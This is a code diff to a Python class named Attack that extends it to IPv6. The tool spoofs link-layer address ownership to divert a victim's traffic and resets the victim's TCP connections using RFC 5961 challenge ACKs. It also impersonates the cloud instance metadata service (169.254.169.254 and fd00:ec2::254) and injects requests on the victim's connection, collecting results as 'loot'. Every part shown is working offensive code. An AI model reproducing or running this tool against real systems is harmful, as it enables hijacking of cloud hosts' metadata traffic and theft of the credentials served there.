@@ -19,6 +19,7 @@ from wire import Wire
 # Nobody's: the attacker's own kernel would meddle with answers that come to its own MAC.
 GHOST = "02:66:00:00:00:66"
 METADATA = ("169.254.169.254", 80)
+METADATA6 = ("fd00:ec2::254", 80)
 
 
 class Attack:
@@ -31,7 +32,8 @@ class Attack:
         self.host_mac = self.wire.resolve(self.host)
         self.victim_mac = self.wire.resolve(self.victim) if order.get("reachesVictim", True) else None
         self.mac = {"ghost": GHOST, "own": self.wire.mac, "victim": self.victim_mac}[order.get("mac", "ghost")]
-        self.ask_at = tuple(order.get("ask", METADATA))
+        self.service = METADATA6 if ":" in self.victim else METADATA
+        self.ask_at = tuple(order.get("ask", self.service))
         self.api = order.get("api", "imds")
 
     def over(self):
@@ -41,6 +43,9 @@ class Attack:
         """The host sends to us what is meant for the victim."""
         self.wire.claim(self.victim, self.mac, self.host, self.host_mac)
         self.wire.pump(0.05)
+
+    def send(self, target_mac, packet):
+        self.wire.send(target_mac, self.mac, IPV6 if ":" in self.victim else IPV4, packet)
 
     def connect(self, source_port, target, seconds=0.6):
         """From the victim's address to the host."""
@@ -109,21 +114,22 @@ class Attack:
                     break
                 self.round(port)
 
-    def challenge(self, port):
+    def challenge(self, port, tries=5):
         """Where the victim's kept connection stands: its server answers a second SYN with just that (RFC 5961). None if there is none."""
-        for _ in range(5):
-            probe = self.connect(port, METADATA)
+        for _ in range(tries):
+            probe = self.connect(port, self.service)
             if probe.challenge is not None:
                 return probe
             probe.abort()
-            self.wire.pump(0.6)
-        self.loot.note("the host has no connection of port %d: %s" % (port, probe.state))
+            self.wire.pump(0.6 if tries > 1 else 0)
+        if tries > 1:
+            self.loot.note("the host has no connection of port %d" % port)
         return None
 
     def end_other(self, probe):
         """Ends the connection that the host has where `probe` would have its own."""
         packet = tcp(*probe.source, *probe.target, probe.challenge[1], 0, RST)
-        self.wire.send(self.host_mac, self.mac, IPV6 if ":" in self.victim else IPV4, packet)
+        self.send(self.host_mac, packet)
         probe.abort()
 
     def end_kept(self, port):
@@ -137,17 +143,18 @@ class Attack:
 
     def kept_injected(self):
         """Speaks on the victim's kept connection, which is proven already."""
-        port = self.order["ports"][0]
+        low, high = self.order["ports"]
         self.be_victim()
         while not self.over():
-            self.loot.rounds += 1
-            probe = self.challenge(port)
-            if probe is None:
-                self.wire.pump(0.5)
-                continue
-            probe.adopt()
-            self.ask(probe)
-            self.wire.connections.clear()
+            for port in range(low, high + 1):
+                self.loot.rounds += 1
+                probe = self.challenge(port, 5 if low == high else 1)
+                if probe is not None:
+                    probe.adopt()
+                    self.ask(probe)
+                    self.wire.connections.clear()
+                if self.over():
+                    return
 
     def impersonation(self):
         """Plays the metadata service to the victim, so that the victim itself opens the connection that the proof looks for."""
@@ -155,7 +162,7 @@ class Attack:
 
         def note(kind, payload, source_mac):
             segment = parse_tcp(kind, payload)
-            if segment is not None and (segment.source, segment.target, segment.target_port) == (self.victim, *METADATA):
+            if segment is not None and (segment.source, segment.target, segment.target_port) == (self.victim, *self.service):
                 seen.append(segment)
 
         self.wire.claim(self.host, self.mac, self.victim, self.victim_mac)
@@ -165,8 +172,8 @@ class Attack:
             self.wire.pump(0.2, lambda: bool(seen))
             for asked in [segment for segment in seen if segment.flags & (SYN | ACK) == SYN]:
                 port, ours = asked.source_port, random.getrandbits(31)
-                answer = tcp(*METADATA, self.victim, port, ours, asked.sequence + 1, SYN | ACK)
-                self.wire.send(self.victim_mac, self.mac, IPV4, answer)
+                answer = tcp(*self.service, self.victim, port, ours, asked.sequence + 1, SYN | ACK)
+                self.send(self.victim_mac, answer)
                 agreed = lambda: any(one.flags & ACK and one.acknowledged == ours + 1 for one in seen)  # noqa: E731
                 self.wire.pump(0.3, agreed)
                 if agreed() and not self.over():
